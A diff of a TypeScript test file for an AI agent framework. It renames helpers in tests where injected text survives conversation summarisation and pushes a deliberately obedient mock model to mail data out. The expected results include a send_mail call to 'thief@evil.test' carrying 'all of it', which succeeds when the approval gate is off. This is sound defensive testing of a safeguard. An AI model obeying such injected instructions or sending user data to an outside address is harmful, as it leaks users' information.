@@ -22,16 +22,16 @@ const writer = scriptedModel(({ history }) => {
 });
 
 /** Obeys every summary. */
-function obeyingSummaries(plan: Parameters<typeof obedientModel>[0]): Model {
+function obeySummaries(plan: Parameters<typeof obedientModel>[0]): Model {
   const model = obedientModel(plan);
-  const heard = (entry: Entry): Entry =>
+  const toUserEntry = (entry: Entry): Entry =>
     entry.type === "summary"
       ? { type: "result", callId: "summary", name: "summary", status: "ok", content: entry.text }
       : entry;
   return {
     ...model,
     stream: (request: ModelRequest, options) =>
-      model.stream({ ...request, history: request.history.map(heard) }, options),
+      model.stream({ ...request, history: request.history.map(toUserEntry) }, options),
   };
 }
 
@@ -43,7 +43,7 @@ const reading = scriptedModel(({ history }) => {
   return { calls: [{ name, input: { of: `${calls}` } }], usage: null };
 });
 
-async function attacked(policy: PolicyOverrides) {
+async function runAttack(policy: PolicyOverrides) {
   const deeds: ToolExecutions = [];
   const about = { store: memory(), session: "s", clock: fakeClock({ skipUpToMs: 5000 }) };
   const tools = createOfficeTools(deeds, { web_page: page, handbook: chapter });
@@ -53,7 +53,7 @@ async function attacked(policy: PolicyOverrides) {
   const read = await run(first, "Read.", about);
   const second = defineAgent({
     name: "office",
-    model: obeyingSummaries([]),
+    model: obeySummaries([]),
     models,
     tools,
     policy: policies,
@@ -63,7 +63,7 @@ async function attacked(policy: PolicyOverrides) {
 
 describe("injected text that survives the summary", () => {
   it("is in the summary and leads to an approval request instead of an effect, in the next run too (A102, A103)", async () => {
-    const { deeds, read, result } = await attacked({});
+    const { deeds, read, result } = await runAttack({});
     expect(read.history[0]).toMatchObject({ type: "summary", text: expect.stringContaining(`> ${order}`) });
     expect(JSON.stringify(result.history)).not.toContain("filler filler");
     expect(deeds).toEqual([]);
@@ -73,12 +73,12 @@ describe("injected text that survives the summary", () => {
   });
 
   it("takes effect with the gate off: the test can fail", async () => {
-    const { deeds } = await attacked({ gate: "off" });
+    const { deeds } = await runAttack({ gate: "off" });
     expect(deeds).toEqual([{ name: "send_mail", input: { to: "thief@evil.test", text: "all of it" } }]);
   });
 
   it("does not count as a target named by the user, although the model receives it as text (A103)", async () => {
-    const { result } = await attacked({ gate: "strict" });
+    const { result } = await runAttack({ gate: "strict" });
     expect(result.status).toBe("waiting");
   });
 
@@ -86,7 +86,7 @@ describe("injected text that survives the summary", () => {
     const deeds: ToolExecutions = [];
     const agent = defineAgent({
       name: "office",
-      model: obeyingSummaries([]),
+      model: obeySummaries([]),
       tools: createOfficeTools(deeds),
     });
     const input: Entry[] = [
